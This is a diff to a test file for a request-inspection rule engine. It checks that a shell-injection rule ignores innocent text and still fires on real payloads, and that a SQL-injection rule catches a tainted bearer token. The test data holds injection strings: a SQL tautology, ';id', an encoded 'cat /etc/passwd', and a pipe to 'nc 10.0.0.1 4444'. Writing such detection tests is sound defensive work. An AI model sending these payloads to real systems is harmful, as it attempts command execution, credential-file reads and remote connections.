@@ -5,6 +5,8 @@
  *   encoded line break among them, are not in a JSON order.
  * - 9000121 (SQL after a quote in a bearer token): every API call sends "Authorization: Bearer"; an
  *   API client's headers hold no quote.
+ * - 9000302 (a shell separator, then a command, in a body value): its command names end at a `\b`, so
+ *   "id" in "ridge" or "nc" in "lunch" does not count; the bench's multipart note has both, and a `;`.
  */
 import { beforeAll, describe, expect, it } from 'vitest';
 import { fileURLToPath } from 'node:url';
@@ -42,5 +44,15 @@ describe('bundled rules behind a second-level condition', () => {
     const call = (token: string): RequestSpec => ({ url: '/api/v1/me', headers: [...API, ['Authorization', `Bearer ${token}`]] });
     expect(candidates(call('2f6c1b0e9a8d4c7f'))).toBe(candidates({ url: '/api/v1/me', headers: API }));
     expect(run(call("2f6c1b0e' or '1'='1")).hits.map((h) => h.sid)).toContain(9000121);
+  });
+
+  it('does not run 9000302 on a note whose command names sit inside words ("ridge", "lunch;"), and still fires on `;id` at the end of a body or before `&`', () => {
+    const line = 'Day 3: rain in the morning, sun after lunch; walked 18 km along the ridge to the hut.\n';
+    const note = (text: string): RequestSpec => ({ method: 'POST', url: '/upload', headers: [...API.slice(0, 2), ['Content-Type', 'text/plain']], body: text.repeat(40) });
+    expect(candidates(note(line))).toBe(candidates(note(line.replace(/;/g, ','))));
+    const form = (body: string): RequestSpec => ({ method: 'POST', url: '/comment', headers: [...API.slice(0, 2), ['Content-Type', 'application/x-www-form-urlencoded']], body });
+    for (const body of ['name=ann;id', 'name=ann;id&x=1', 'name=ann%3Bcat%20/etc/passwd', 'name=a|nc 10.0.0.1 4444']) {
+      expect(run(form(body)).hits.map((h) => h.sid), body).toContain(9000302);
+    }
   });
 });
